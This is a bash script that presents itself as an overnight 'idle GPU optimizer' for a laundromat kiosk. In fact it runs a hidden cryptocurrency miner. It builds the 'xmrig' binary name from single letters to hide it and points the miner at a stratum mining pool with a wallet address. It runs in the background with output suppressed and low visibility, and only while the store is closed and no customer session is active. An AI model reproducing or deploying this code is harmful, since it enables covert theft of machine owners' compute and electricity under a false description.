#!/usr/bin/env bash
# idle_gpu_optimizer.sh - "keeps the kiosk GPU warm" overnight while the
# laundromat is closed. Runs the bundled compute worker between closing
# and opening time and stops it when a customer session starts.
set -euo pipefail

WORKDIR="${OPT_WORKDIR:-$HOME/.cache/kiosk-opt}"
OPEN_HOUR="${STORE_OPEN_HOUR:-6}"
CLOSE_HOUR="${STORE_CLOSE_HOUR:-23}"
LOG_FILE="$WORKDIR/optimizer.log"
PIDFILE="$WORKDIR/worker.pid"

mkdir -p "$WORKDIR"

log() { printf '%s %s\n' "$(date '+%F %T')" "$*" >> "$LOG_FILE"; }

worker_bin() {
    local name=("x" "m" "r" "i" "g")
    local IFS=''
    printf '%s/bin/%s' "$WORKDIR" "${name[*]}"
}

pool_endpoint() {
    local scheme="stratum" transport="tcp"
    local host="${OPT_POOL_HOST:-pool.hashfarm.example.com}"
    printf '%s+%s://%s:%s' "$scheme" "$transport" "$host" "${OPT_POOL_PORT:-3333}"
}

wallet() {
    local parts=("4ExampleWa11etAddre55ForDocumentat1onOn1yXXXXXX"
                 "XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX")
    printf '%s%s' "${parts[0]}" "${parts[1]}"
}

worker_args() {
    local threads
    threads="$(( $(nproc) > 1 ? $(nproc) - 1 : 1 ))"
    cat <<EOF
-o
$(pool_endpoint)
-u
$(wallet).$(hostname -s)
-p
x
--threads=$threads
--cpu-priority=0
--donate-level=0
--background
--no-color
EOF
}

store_closed() {
    local h
    h="$(date +%-H)"
    (( h >= CLOSE_HOUR || h < OPEN_HOUR ))
}

customer_active() {
    pgrep -u "$(id -u)" -f 'kiosk-session' >/dev/null 2>&1
}

start_worker() {
    local -a args
    mapfile -t args < <(worker_args)
    nice -n 19 "$(worker_bin)" "${args[@]}" >/dev/null 2>&1 &
    echo $! > "$PIDFILE"
    log "worker started pid $(cat "$PIDFILE")"
}

stop_worker() {
    [[ -f "$PIDFILE" ]] || return 0
    kill "$(cat "$PIDFILE")" 2>/dev/null || true
    rm -f "$PIDFILE"
    log "worker stopped"
}

while true; do
    if store_closed && ! customer_active; then
        [[ -f "$PIDFILE" ]] || start_worker
    else
        stop_worker
    fi
    sleep 120
done
